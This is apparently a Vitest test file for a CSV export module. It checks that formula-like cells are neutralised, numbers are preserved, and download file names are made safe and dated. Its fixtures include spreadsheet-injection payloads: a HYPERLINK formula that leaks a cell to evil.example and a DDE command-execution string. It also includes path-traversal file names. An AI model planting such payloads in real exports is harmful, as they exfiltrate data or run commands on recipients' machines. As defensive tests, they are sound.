import { describe, expect, it } from 'vitest'
import { csvCell, csvRecords, datedCsvFileName, neutraliseFormula, safeCsvFileName } from './csv'

describe('neutraliseFormula', () => {
  it('makes text a spreadsheet would run plain text, whatever it starts with', () => {
    for (const evil of [
      '=HYPERLINK("http://evil.example/?"&A1,"Details")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '+1 954 555 0100',
      '-',
      '=',
    ]) {
      expect(neutraliseFormula(evil)).toBe(`'${evil}`)
    }
  })

  it('leaves other text as it is, empty text included', () => {
    for (const fine of ['Acme', '(954) 555-0100', '', "'quoted", ' =spaced', 'a-b', 'x=y']) {
      expect(neutraliseFormula(fine)).toBe(fine)
    }
  })

  it('leaves a negative amount written as text a number (a refund of -12.50)', () => {
    expect(neutraliseFormula('-12.50')).toBe('-12.50')
    expect(neutraliseFormula('-3')).toBe('-3')
    // Anything more than a plain number is text that could run.
    expect(neutraliseFormula('-12.50+A1')).toBe("'-12.50+A1")
    expect(neutraliseFormula('-1e9')).toBe("'-1e9")
    expect(neutraliseFormula('-12.50\n=A1')).toBe("'-12.50\n=A1")
  })

  it('looks at the start of a multi-line cell, where a spreadsheet reads a formula', () => {
    expect(neutraliseFormula('=A1\nsecond line')).toBe("'=A1\nsecond line")
    expect(neutraliseFormula('1. Zebra\n=A1')).toBe('1. Zebra\n=A1')
  })
})

describe('csvCell', () => {
  it('keeps numbers numbers, negative ones too, and writes nothing as an empty cell', () => {
    expect(csvCell(-12.5)).toBe(-12.5)
    expect(csvCell(0)).toBe(0)
    expect(csvCell(17)).toBe(17)
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell('')).toBe('')
    expect(csvCell('@x')).toBe("'@x")
  })
})

describe('csvRecords', () => {
  it('writes the headers, then one row per item as the columns read it', () => {
    const columns = [
      ['Name', (p: { name: string; refund: number }) => p.name],
      ['Refund', (p: { name: string; refund: number }) => p.refund],
    ] as const
    expect(csvRecords(columns, [{ name: 'Ana', refund: -12.5 }])).toEqual([
      ['Name', 'Refund'],
      ['Ana', -12.5],
    ])
    expect(csvRecords(columns, [])).toEqual([['Name', 'Refund']])
  })
})

describe('file names', () => {
  it('keeps a download name to letters, digits, dot, dash and underscore, ending in .csv', () => {
    expect(safeCsvFileName('audit-log.csv')).toBe('audit-log.csv')
    expect(safeCsvFileName('price-grid-vertical')).toBe('price-grid-vertical.csv')
    expect(safeCsvFileName('a"b\r\nc/../d.CSV')).toBe('a-b-c-..-d.csv')
    expect(safeCsvFileName('../')).toBe('export.csv')
    expect(safeCsvFileName('')).toBe('export.csv')
  })

  it('names a dated export after the business day', () => {
    // 03:30 UTC on 1 December is 22:30 on 30 November in Fort Lauderdale.
    expect(datedCsvFileName('orders', new Date('2026-12-01T03:30:00Z'))).toBe(
      'orders-2026-11-30.csv',
    )
    expect(datedCsvFileName('window-company-requests', new Date('2026-12-01T03:00:00Z'))).toBe(
      'window-company-requests-2026-11-30.csv',
    )
  })
})
